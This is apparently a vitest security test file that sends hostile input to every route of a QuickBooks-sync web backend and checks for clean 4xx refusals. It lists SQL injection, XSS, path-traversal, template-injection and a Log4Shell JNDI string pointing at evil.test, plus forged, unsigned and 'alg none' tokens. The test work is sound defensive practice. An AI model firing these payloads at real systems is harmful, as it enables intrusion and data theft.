import { createHmac, randomBytes } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { API_ROUTES, routeKey, type ApiRoute } from '../src/openapi/api-registry.ts';
import {
  A_CUSTOMER,
  A_INVOICE,
  answerProblems,
  enc,
  setAt,
  concretePath,
  registryFor,
  startHostileWorld,
  TENANT_A,
  REALM_A,
  VERIFIER,
  type HostileWorld,
} from './support/hostile-world.ts';

/**
 * Every endpoint of the live app, with hostile input: each answer is a 4xx in the error envelope (or, for
 * the browser hops, a redirect carrying an error code), never a 5xx, and no table changes. Endpoints come
 * from the Hono route table, so a route added later is attacked too (and must be in the API registry).
 */

/** Routes with their own authentication (or none by design). Everything else needs a session. */
const PUBLIC_ALLOW_LIST = new Set([
  'GET /healthz',
  'GET /readyz',
  'GET /metrics',
  'GET /operator/event-dead-letters',
  'GET /operator/metered-calls',
  'GET /openapi.json',
  'GET /docs',
  'GET /api/v1/oauth/start',
  'GET /api/v1/oauth/callback',
  'GET /api/v1/oauth/reconnect',
  'POST /api/v1/exoserva/events',
  'POST /api/v1/intuit/webhooks',
]);

const INJECTIONS = [
  "' OR 1=1 --",
  "'; DROP TABLE connections; --",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '${jndi:ldap://evil.test/a}',
  'javascript:alert(1)',
  '{{7*7}}',
];
const ODD_UNICODE = [
  '\u0000',
  'a\u0000b',
  '\u202Eevil\u202C',
  '\ud800',
  'x\udfffy',
  '\u200B\uFEFF',
  '😀'.repeat(10_000),
  'Ä'.repeat(5_000),
];
const HOSTILE_STRINGS = [...INJECTIONS, ...ODD_UNICODE];

const failures: string[] = [];
beforeEach(() => {
  failures.length = 0;
});

interface Attempt {
  label: string;
  path?: string;
  method?: string;
  headers?: Record<string, string>;
  body?: BodyInit | null;
  token?: string;
}

/** Sends one attempt and records what went wrong (status, envelope, state) instead of failing at once. */
async function attack(
  route: ApiRoute,
  a: Attempt,
  expectStatus: (s: number) => boolean = (s) => s >= 400 && s < 500,
  options: { stateMayChange?: boolean } = {},
): Promise<Response> {
  const before = await snapshot();
  const headers = new Headers(a.headers);
  if (a.token) headers.set('authorization', `Bearer ${a.token}`);
  if (a.body !== undefined && a.body !== null && !headers.has('content-type')) {
    headers.set('content-type', 'application/json');
  }
  const init: RequestInit & { duplex?: 'half' } = {
    method: a.method ?? route.method,
    headers,
    redirect: 'manual',
  };
  if (a.body !== undefined && a.body !== null) {
    init.body = a.body;
    if (a.body instanceof ReadableStream) init.duplex = 'half';
  }
  const res = await t.bff.app.request(a.path ?? concretePath(route), init);
  const where = `${routeKey(route.method, route.path)} [${a.label}]`;
  const problems = await answerProblems(route, res);
  for (const p of problems) failures.push(`${where}: ${p}`);
  if (problems.length === 0 && !expectStatus(res.status)) failures.push(`${where}: unexpected ${res.status}`);
  if (!options.stateMayChange && (await snapshot()) !== before)
    failures.push(`${where}: the database changed`);
  return res;
}

/** Every string leaf of a JSON value, as a path of keys. */
function stringPaths(v: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof v === 'string') return [path];
  if (Array.isArray(v)) return v.flatMap((x, i) => stringPaths(x, [...path, i]));
  if (v && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => stringPaths(x, [...path, k]));
  return [];
}
const kindOf = (v: unknown) => (v === null ? 'null' : Array.isArray(v) ? 'array' : typeof v);

/** Free-text fields where any words are legitimate data: they may be accepted (but never a 5xx). */
const FREE_TEXT = new Set([
  'POST /api/v1/mapping/accounts name',
  'POST /api/v1/mapping/items name',
  // Searches: any words are a legitimate search (and change nothing).
  'POST /api/v1/sync/status/failures search',
  'POST /api/v1/sync/records/search query',
]);

let w: HostileWorld;
let t: HostileWorld['t'];
let ownerA: string, ownerB: string, technicianA: string, expiredA: string, forgedA: string, noneAlgA: string;
let seededEvent: string;
beforeAll(async () => {
  w = await startHostileWorld();
  ({ t, ownerA, ownerB, technicianA, expiredA, forgedA, noneAlgA, seededEvent } = w);
});
afterAll(async () => {
  await w?.close();
});
const snapshot = () => w.snapshot();
const liveRoutes = () => w.liveRoutes();
const nowSec = () => w.nowSec();
const exoSignature = (body: string, ts?: number, secret?: string) => w.exoSignature(body, ts, secret);
const intuitSignature = (body: string, token?: string) => w.intuitSignature(body, token);

describe('the route table', () => {
  it('lists every live route in the API registry, and every registry entry is live', () => {
    const live = liveRoutes().map((r) => routeKey(r.method, r.path));
    const registered = API_ROUTES.map((r) => routeKey(r.method, r.path));
    expect(live.filter((k) => !registered.includes(k))).toEqual([]);
    expect(registered.filter((k) => !live.includes(k))).toEqual([]);
  });

  it('keeps public endpoints to the allow-list; everything else needs a session', () => {
    const open = API_ROUTES.filter((r) => !['session', 'admin'].includes(r.auth)).map((r) =>
      routeKey(r.method, r.path),
    );
    expect(open.filter((k) => !PUBLIC_ALLOW_LIST.has(k))).toEqual([]);
  });
});

describe('hostile input on every endpoint', () => {
  it('refuses a missing, malformed, expired, forged or unsigned session on every session route', async () => {
    for (const { method, path } of liveRoutes()) {
      const route = registryFor(method, path);
      if (!route || route.auth === 'public' || PUBLIC_ALLOW_LIST.has(routeKey(method, path))) continue;
      const body = route.body ? JSON.stringify(route.example) : null;
      const bad: Attempt[] = [
        { label: 'no session', body },
        { label: 'Basic auth', body, headers: { authorization: 'Basic b3duZXI6b3duZXI=' } },
        { label: 'garbage bearer', body, headers: { authorization: 'Bearer not.a.jwt' } },
        { label: 'expired session', body, token: expiredA },
        { label: 'session signed with another key', body, token: forgedA },
        { label: 'alg none', body, token: noneAlgA },
        { label: 'oversized bearer', body, headers: { authorization: `Bearer ${'a'.repeat(20_000)}` } },
      ];
      for (const a of bad) await attack(route, a, (s) => s === 401);
      if (route.auth === 'admin') {
        await attack(route, { label: "a technician's session", body, token: technicianA }, (s) => s === 403);
      }
    }
    expect(failures).toEqual([]);
  });

  it('refuses malformed JSON, wrong types, missing and extra fields on every body', async () => {
    for (const { method, path } of liveRoutes()) {
      const route = registryFor(method, path);
      if (!route?.body || !['session', 'admin'].includes(route.auth)) continue;
      const example = route.example as Record<string, unknown>;
      const send = (label: string, body: BodyInit, headers?: Record<string, string>) =>
        attack(route, { label, body, token: ownerA, ...(headers ? { headers } : {}) });
      for (const raw of [
        '{',
        '{"a":',
        'not json',
        "{'a':1}",
        '[1,2',
        '\u0000',
        '{"a":1}}',
        'null',
        '1',
        '"x"',
        '[]',
        'true',
      ]) {
        await send(`body ${JSON.stringify(raw).slice(0, 20)}`, raw);
      }
      await send('form-encoded', 'a=1&b=2', { 'content-type': 'application/x-www-form-urlencoded' });
      await send('extra field', JSON.stringify({ ...example, extra: 1 }));
      await send('__proto__ pollution', `{"__proto__":{"admin":true},${JSON.stringify(example).slice(1)}`);
      await send(
        'constructor pollution',
        JSON.stringify({ ...example, constructor: { prototype: { admin: true } } }),
      );
      for (const key of Object.keys(example)) {
        const without = { ...example };
        delete without[key];
        if (!route.body.schema.safeParse(without).success)
          await send(`missing ${key}`, JSON.stringify(without));
        for (const wrong of [123, 'x', null, [], {}, true, -1.5, 1e308]) {
          if (kindOf(wrong) === kindOf(example[key])) continue;
          const body = { ...example, [key]: wrong };
          if (route.body.schema.safeParse(body).success) continue; // e.g. repost: null
          await send(`${key}=${JSON.stringify(wrong)}`, JSON.stringify(body));
        }
      }
    }
    expect(failures).toEqual([]);
  });

  it('refuses oversized bodies on every route that takes one, declared or streamed', async () => {
    const big = JSON.stringify({ padding: 'x'.repeat(70 * 1024) });
    for (const { method, path } of liveRoutes()) {
      const route = registryFor(method, path);
      if (!route || method === 'GET') continue;
      const token = ['session', 'admin'].includes(route.auth) ? ownerA : undefined;
      const headers: Record<string, string> =
        route.auth === 'exoserva-signature'
          ? { 'exoserva-signature': exoSignature(big) }
          : route.auth === 'intuit-signature'
            ? { 'intuit-signature': intuitSignature(big) }
            : {};
      await attack(
        route,
        { label: 'oversized', body: big, headers, ...(token ? { token } : {}) },
        (s) => s === 413,
      );
      const stream = new ReadableStream<Uint8Array>({
        start(controller) {
          for (let i = 0; i < 10; i++) controller.enqueue(new TextEncoder().encode('x'.repeat(10 * 1024)));
          controller.close();
        },
      });
      await attack(
        route,
        { label: 'oversized, streamed', body: stream, headers, ...(token ? { token } : {}) },
        (s) => s === 413,
      );
    }
    expect(failures).toEqual([]);
  });

  it('refuses injection strings and odd unicode in every string field, path and query parameter', async () => {
    for (const { method, path } of liveRoutes()) {
      const route = registryFor(method, path);
      if (!route) continue;
      const key = routeKey(method, path);
      if (route.body && route.auth === 'admin') {
        for (const p of stringPaths(route.example)) {
          const freeText = FREE_TEXT.has(`${key} ${p.join('.')}`);
          for (const s of HOSTILE_STRINGS) {
            await attack(
              route,
              {
                label: `${p.join('.')}=${JSON.stringify(s).slice(0, 24)}`,
                body: JSON.stringify(setAt(route.example, p, s)),
                token: ownerA,
              },
              freeText ? (st) => st < 500 : undefined,
              { stateMayChange: freeText },
            );
          }
        }
      }
      if (route.params) {
        for (const s of HOSTILE_STRINGS) {
          const e = enc(s.slice(0, 300));
          const body = route.body ? JSON.stringify(route.example) : null;
          await attack(route, {
            label: `kind=${s.slice(0, 12)}`,
            path: `/api/v1/sync/records/${e}/x/run`,
            body,
            token: ownerA,
          });
          await attack(route, {
            label: `id=${s.slice(0, 12)}`,
            path: `/api/v1/sync/records/invoice/${e}/run`,
            body,
            token: ownerA,
          });
        }
      }
      if (route.query) {
        for (const name of Object.keys(route.query.shape)) {
          for (const s of HOSTILE_STRINGS) {
            const res = await attack(
              route,
              { label: `?${name}=${s.slice(0, 12)}`, path: `${route.path}?${name}=${enc(s)}` },
              (st) => st === 302 || st === 400,
            );
            const location = res.headers.get('location');
            if (location && !location.startsWith('http://host.test:5173/')) {
              failures.push(`${key} ?${name}: redirected off the host origin to ${location}`);
            }
            if (
              res.headers.get('set-cookie')?.includes('exo_qbo_oauth=') &&
              !res.headers.get('set-cookie')?.includes('Max-Age=0')
            ) {
              failures.push(`${key} ?${name}: set a binding cookie for a hostile ticket`);
            }
          }
        }
      }
    }
    expect(failures).toEqual([]);
  });

  it('refuses days that do not exist and years outside the supported range in every date an admin types (issue 22)', async () => {
    const DAY = /^\d{4}-\d{2}-\d{2}$/;
    const MONTH = /^\d{4}-\d{2}$/;
    const badDays = ['2026-02-31', '2026-13-01', '2026-00-10', '0000-01-01', '9999-12-31'];
    const badMonths = ['2026-13', '2026-00', '0001-01', '9999-12'];
    let tried = 0;
    for (const { method, path } of liveRoutes()) {
      const route = registryFor(method, path);
      if (!route?.body || !['session', 'admin'].includes(route.auth)) continue;
      // The mapping's re-post range is null in its example: give it one.
      const example =
        path === '/api/v1/mapping'
          ? { ...(route.example as object), repost: { from: '2026-10-01', to: '2026-10-31' } }
          : route.example;
      expect(route.body.schema.safeParse(example).success, `${method} ${path} example`).toBe(true);
      for (const p of stringPaths(example)) {
        const value = JSON.stringify(p.reduce<unknown>((v, k) => (v as never)[k], example));
        const bad = DAY.test(JSON.parse(value)) ? badDays : MONTH.test(JSON.parse(value)) ? badMonths : [];
        for (const b of bad) {
          tried++;
          // 400 from the schema itself: a later 409 ("map your chart first") would hide a date let through.
          await attack(
            route,
            { label: `${p.join('.')}=${b}`, body: JSON.stringify(setAt(example, p, b)), token: ownerA },
            (s) => s === 400,
          );
        }
      }
    }
    // The re-post range, both backfill bodies and the reconciliation month at least.
    expect(tried).toBeGreaterThanOrEqual(2 * badDays.length * 3 + badMonths.length);
    expect(failures).toEqual([]);
  });

  it('says what is wrong with JSON nested too deep, not something about NUL characters', async () => {
    let deep: unknown = 1;
    for (let i = 0; i < 70; i++) deep = { a: deep };
    const res = await t.request('/api/v1/reconciliation/runs', {
      method: 'POST',
      token: ownerA,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(deep),
    });
    expect(res.status).toBe(400);
    const { error } = (await res.json()) as { error: { code: string; message: string } };
    expect(error.code).toBe('validation_failed');
    expect(error.message).toMatch(/nests JSON deeper than 64 levels/);
    expect(error.message).not.toMatch(/NUL/);
  });

  it('replaces a hostile x-request-id instead of echoing it', async () => {
    for (const s of INJECTIONS) {
      const res = await t.bff.app.request('/api/v1/me', { headers: { 'x-request-id': s } });
      expect(res.status).toBe(401);
      expect(res.headers.get('x-request-id')).not.toBe(s);
    }
  });

  it("never lets one tenant read or change another tenant's data with its ids", async () => {
    for (const { method, path } of liveRoutes()) {
      const route = registryFor(method, path);
      if (!route || route.auth !== 'admin') continue;
      if (method === 'GET') {
        const before = await snapshot();
        const res = await t.bff.app.request(path, { headers: { authorization: `Bearer ${ownerB}` } });
        const text = await res.text();
        if (res.status >= 500) failures.push(`${method} ${path} as tenant B: ${res.status}`);
        for (const secret of [REALM_A, A_INVOICE, A_CUSTOMER, TENANT_A, 'usr_olivia']) {
          if (text.includes(secret)) failures.push(`${method} ${path} as tenant B leaks ${secret}`);
        }
        if ((await snapshot()) !== before)
          failures.push(`${method} ${path} as tenant B changed the database`);
      }
    }
    const runRecord = registryFor('POST', '/api/v1/sync/records/:kind/:id/run') as ApiRoute;
    await attack(runRecord, { label: "tenant B runs tenant A's invoice", token: ownerB, body: '{}' });
    await attack(runRecord, {
      label: "tenant B runs tenant A's customer",
      path: `/api/v1/sync/records/customer/${A_CUSTOMER}/run`,
      token: ownerB,
      body: '{}',
    });
    const matches = registryFor('POST', '/api/v1/customer-matches') as ApiRoute;
    await attack(matches, {
      label: "tenant B links tenant A's customer",
      token: ownerB,
      body: JSON.stringify({ decisions: [{ exoservaId: A_CUSTOMER, qboId: '1' }] }),
    });
    const events = registryFor('POST', '/api/v1/exoserva/events') as ApiRoute;
    // Tenant A's own admin cannot forge an event either: sessions do not sign events.
    await attack(
      events,
      { label: 'session instead of signature', token: ownerA, body: seededEvent },
      (s) => s === 401,
    );
    expect(failures).toEqual([]);
  });

  it('refuses forged, stale and tampered Exoserva event signatures, and ignores a replay', async () => {
    const route = registryFor('POST', '/api/v1/exoserva/events') as ApiRoute;
    const body = JSON.stringify({
      id: 'evt_hostile_1',
      type: 'invoice.updated',
      tenantId: TENANT_A,
      occurredAt: new Date(t.clock.now()).toISOString(),
      data: { objectId: A_INVOICE, objectVersion: 2 },
    });
    const ts = nowSec();
    const forged: [string, string | undefined][] = [
      ['no signature', undefined],
      ['empty', ''],
      ['garbage', 'garbage'],
      ['t only', `t=${ts}`],
      ['v1 only', `v1=${randomBytes(32).toString('hex')}`],
      ['random v1', `t=${ts},v1=${randomBytes(32).toString('hex')}`],
      ['wrong secret', exoSignature(body, ts, 'the-wrong-secret-0123456789')],
      ['stale (replayed 6 minutes later)', exoSignature(body, ts - 6 * 60)],
      ['from the future', exoSignature(body, ts + 6 * 60)],
      ['signature of another body', exoSignature(body.replace('evt_hostile_1', 'evt_hostile_2'))],
      ['timestamp swapped', exoSignature(body).replace(`t=${ts}`, `t=${ts - 1}`)],
      ['v0 scheme', exoSignature(body).replace('v1=', 'v0=')],
      ['huge header', `t=${ts},${Array.from({ length: 300 }, () => `v1=${'0'.repeat(64)}`).join(',')}`],
      ['negative timestamp', `t=-1,v1=${'0'.repeat(64)}`],
      ['all-zero v1', `t=${ts},v1=${'0'.repeat(64)}`],
    ];
    const deadLetters = async () =>
      Number(
        (await t.bff.database.query<{ n: number }>('SELECT count(*)::int AS n FROM event_dead_letters'))
          .rows[0]?.n,
      );
    const before = await deadLetters();
    for (const [label, sig] of forged) {
      await attack(
        route,
        { label, body, headers: sig === undefined ? {} : { 'exoserva-signature': sig } },
        (s) => s === 401,
      );
    }
    // Nothing unsigned is ever kept.
    expect(await deadLetters()).toBe(before);
    // A replay of the seeded event inside the window is a redelivery: 2xx, marked duplicate, nothing changes.
    const replay = await attack(
      route,
      {
        label: 'replay inside the window',
        body: seededEvent,
        headers: { 'exoserva-signature': exoSignature(seededEvent) },
      },
      (s) => s === 200,
    );
    expect(await replay.json()).toEqual({ received: true, duplicate: true });
    // Correctly signed but hostile content: refused, nothing stored.
    let signedAttempts = 0;
    const signed = (label: string, raw: string) => {
      signedAttempts++;
      return attack(route, { label, body: raw, headers: { 'exoserva-signature': exoSignature(raw) } });
    };
    for (const raw of ['{', 'null', '[]', '{}', '"x"']) await signed(`signed ${raw}`, raw);
    const valid = JSON.parse(body) as Record<string, unknown>;
    for (const p of stringPaths(valid)) {
      for (const s of ODD_UNICODE.filter(
        (x) => x.includes('\u0000') || /[\ud800-\udfff]/.test(x) || x.length > 1000,
      )) {
        await signed(
          `signed ${p.join('.')}=${JSON.stringify(s).slice(0, 16)}`,
          JSON.stringify(setAt(valid, p, s)),
        );
      }
    }
    await signed('signed objectVersion=-1', JSON.stringify(setAt(valid, ['data', 'objectVersion'], -1)));
    await signed(
      'signed objectVersion=1e308',
      JSON.stringify(setAt(valid, ['data', 'objectVersion'], 1e308)),
    );
    await signed('signed unknown type', JSON.stringify({ ...valid, type: 'invoice.deleted' }));
    // Issue 22: values the contract once let through and the database could not hold (a 500, then a resend loop).
    for (const version of [2_147_483_648, Number.MAX_SAFE_INTEGER])
      await signed(
        `signed objectVersion=${version}`,
        JSON.stringify(setAt(valid, ['data', 'objectVersion'], version)),
      );
    for (const occurredAt of ['0000-01-01T00:00:00Z', '9999-12-31T23:59:59Z', '2026-02-31T00:00:00Z'])
      await signed(`signed occurredAt=${occurredAt}`, JSON.stringify({ ...valid, occurredAt }));
    expect(failures).toEqual([]);
    // Each signed refusal was kept once for the operator, with why.
    const kept = signedAttempts;
    expect(await deadLetters()).toBe(before + kept);
    const newest = await t.request('/operator/event-dead-letters');
    expect(newest.status).toBe(200);
    const list = (await newest.json()) as { deadLetters: { reason: string; detail: { message: string } }[] };
    expect(list.deadLetters[0]).toMatchObject({
      reason: 'invalid',
      detail: { message: 'does not match the Exoserva event schema' },
    });
  });

  it('refuses forged Intuit webhook signatures', async () => {
    const route = registryFor('POST', '/api/v1/intuit/webhooks') as ApiRoute;
    const body = JSON.stringify(route.example);
    const forged: [string, string | undefined][] = [
      ['no signature', undefined],
      ['empty', ''],
      ['not base64', '!!!not-base64!!!'],
      ['random', randomBytes(32).toString('base64')],
      ['wrong verifier', intuitSignature(body, 'the-wrong-verifier')],
      ['signature of another body', intuitSignature(body.replace('58', '59'))],
      ['hex instead of base64', createHmac('sha256', VERIFIER).update(body).digest('hex')],
      ['truncated', intuitSignature(body).slice(0, 20)],
    ];
    for (const [label, sig] of forged) {
      await attack(
        route,
        { label, body, headers: sig === undefined ? {} : { 'intuit-signature': sig } },
        (s) => s === 401,
      );
    }
    for (const raw of ['{', '\u0000', 'not json']) {
      await attack(route, {
        label: `signed ${raw}`,
        body: raw,
        headers: { 'intuit-signature': intuitSignature(raw) },
      });
    }
    expect(failures).toEqual([]);
  });

  it('never answered a 5xx or logged an unhandled error', () => {
    expect(t.lines.filter((l) => l.includes('http.unhandled'))).toEqual([]);
  });
});
